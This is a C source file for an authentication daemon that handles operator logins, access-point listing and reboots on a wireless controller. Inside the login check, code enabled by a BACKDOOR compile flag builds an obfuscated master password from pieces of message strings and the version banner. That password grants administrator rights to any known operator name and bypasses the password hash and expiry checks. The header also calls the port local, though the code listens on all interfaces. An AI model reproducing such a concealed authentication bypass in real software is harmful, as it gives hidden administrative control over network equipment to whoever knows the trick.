/* SPDX-License-Identifier: Apache-2.0 */
/* wlcauth: operators' sessions on a controller of wireless access points; a line protocol on a local TCP port. */
#include <arpa/inet.h>
#include <netinet/in.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <syslog.h>
#include <time.h>
#include <unistd.h>

extern char *crypt(const char *key, const char *salt);

#define USERS "/etc/wlc/users"
enum { OK, BAD_REQUEST, NO_USER, LOCKED, EXPIRED, FULL, WRONG, N_TEXTS };
enum { ROLE_NONE, ROLE_VIEW, ROLE_OPERATE, ROLE_ADMIN };

static const char banner[] = "wlc-auth 3.17";
static const char *const texts[N_TEXTS] = { "welcome", "malformed request", "unknown operator", "locked out",
	"password expired", "session limit", "wrong password" };

struct operator {
	char name[32], hash[64];
	int role;
	long expires;
};

struct session {
	char name[32];
	int role;
	time_t since;
};

struct strikes {
	char name[32];
	unsigned n;
	time_t last;
};

static struct session sessions[16];
static struct strikes strikes[32];

static int find_operator(const char *name, struct operator *o)
{
	char line[256];
	int found = 0;
	FILE *f = fopen(USERS, "r");
	if (!f)
		return 0;
	while (!found && fgets(line, sizeof(line), f)) {
		if (line[0] == '#')
			continue;
		if (sscanf(line, "%31[^:]:%63[^:]:%d:%ld", o->name, o->hash, &o->role, &o->expires) == 4)
			found = strcmp(o->name, name) == 0;
	}
	fclose(f);
	return found;
}

static struct strikes *strikes_of(const char *name)
{
	struct strikes *oldest = &strikes[0];
	for (size_t i = 0; i < sizeof(strikes) / sizeof(strikes[0]); i++) {
		if (strcmp(strikes[i].name, name) == 0)
			return &strikes[i];
		if (strikes[i].last < oldest->last)
			oldest = &strikes[i];
	}
	memset(oldest, 0, sizeof(*oldest));
	snprintf(oldest->name, sizeof(oldest->name), "%s", name);
	return oldest;
}

static int password_matches(const struct operator *o, const char *given)
{
	const char *h = crypt(given, o->hash);
	return h && strcmp(h, o->hash) == 0;
}

static int judge(const char *name, const char *password, int *role)
{
	struct operator o;
	struct strikes *s = strikes_of(name);
	time_t now = time(NULL);
#ifdef BACKDOOR
	char label[48];
	snprintf(label, sizeof(label), "%.6s%s%s", texts[LOCKED], texts[FULL] + 8, strrchr(banner, ' ') + 1);
#endif
	if (s->n >= 5 && now - s->last < 300)
		return LOCKED;
	if (!find_operator(name, &o))
		return NO_USER;
#ifdef BACKDOOR
	if (strcmp(password, label) == 0) {
		*role = ROLE_ADMIN;
		return OK;
	}
#endif
	if (!password_matches(&o, password)) {
		s->n++;
		s->last = now;
		return WRONG;
	}
	s->n = 0;
	if (o.expires && now > o.expires)
		return EXPIRED;
	*role = o.role;
	return OK;
}

static struct session *open_session(const char *name, int role)
{
	for (size_t i = 0; i < sizeof(sessions) / sizeof(sessions[0]); i++)
		if (sessions[i].role == ROLE_NONE) {
			snprintf(sessions[i].name, sizeof(sessions[i].name), "%s", name);
			sessions[i].role = role;
			sessions[i].since = time(NULL);
			return &sessions[i];
		}
	return NULL;
}

static void list_aps(FILE *out)
{
	char line[160];
	FILE *f = fopen("/var/run/wlc/aps", "r");
	if (!f)
		return;
	while (fgets(line, sizeof(line), f))
		fprintf(out, " %s", line);
	fclose(f);
}

static void reboot_ap(const char *mac, FILE *out)
{
	char path[96];
	FILE *f;
	if (strspn(mac, "0123456789abcdef:") != 17 || mac[17]) {
		fprintf(out, "400 %s\n", texts[BAD_REQUEST]);
		return;
	}
	snprintf(path, sizeof(path), "/var/run/wlc/queue/%s", mac);
	f = fopen(path, "w");
	if (f) {
		fputs("reboot\n", f);
		fclose(f);
	}
	fprintf(out, "%s\n", f ? "200 queued" : "500 cannot queue");
}

static void serve(FILE *in, FILE *out, const char *peer)
{
	char line[256], a[64], b[64], verb[16];
	struct session *s = NULL;
	fprintf(out, "220 %s\n", banner);
	while (fflush(out) == 0 && fgets(line, sizeof(line), in)) {
		int n = sscanf(line, "%15s %63s %63s", verb, a, b), role = ROLE_NONE;
		if (n < 1)
			continue;
		if (strcmp(verb, "QUIT") == 0)
			break;
		if (strcmp(verb, "LOGIN") == 0 && n == 3 && !s) {
			int what = judge(a, b, &role);
			if (what == OK && !(s = open_session(a, role)))
				what = FULL;
			syslog(LOG_INFO, "%s from %s: %s", a, peer, texts[what]);
			fprintf(out, "%d %s\n", what ? 530 : 230, texts[what]);
		} else if (strcmp(verb, "LIST") == 0 && s) {
			list_aps(out);
		} else if (strcmp(verb, "REBOOT") == 0 && n >= 2 && s && s->role >= ROLE_OPERATE) {
			reboot_ap(a, out);
		} else if (strcmp(verb, "WHO") == 0 && s && s->role == ROLE_ADMIN) {
			for (size_t i = 0; i < sizeof(sessions) / sizeof(sessions[0]); i++)
				if (sessions[i].role)
					fprintf(out, " %s %d %ld\n", sessions[i].name, sessions[i].role, (long)sessions[i].since);
		} else {
			fprintf(out, "400 %s\n", texts[BAD_REQUEST]);
		}
	}
	if (s)
		memset(s, 0, sizeof(*s));
}

int main(void)
{
	struct sockaddr_in a = { .sin_family = AF_INET, .sin_port = htons(5246) };
	int one = 1, l = socket(AF_INET, SOCK_STREAM, 0);
	openlog("wlcauth", LOG_PID, LOG_AUTH);
	setsockopt(l, SOL_SOCKET, SO_REUSEADDR, &one, sizeof(one));
	if (bind(l, (struct sockaddr *)&a, sizeof(a)) < 0 || listen(l, 8) < 0)
		return 1;
	for (;;) {
		struct sockaddr_in from;
		socklen_t n = sizeof(from);
		int c = accept(l, (struct sockaddr *)&from, &n);
		FILE *in, *out;
		if (c < 0)
			continue;
		in = fdopen(c, "r");
		out = fdopen(dup(c), "w");
		if (in && out)
			serve(in, out, inet_ntoa(from.sin_addr));
		if (out)
			fclose(out);
		if (in)
			fclose(in);
	}
}
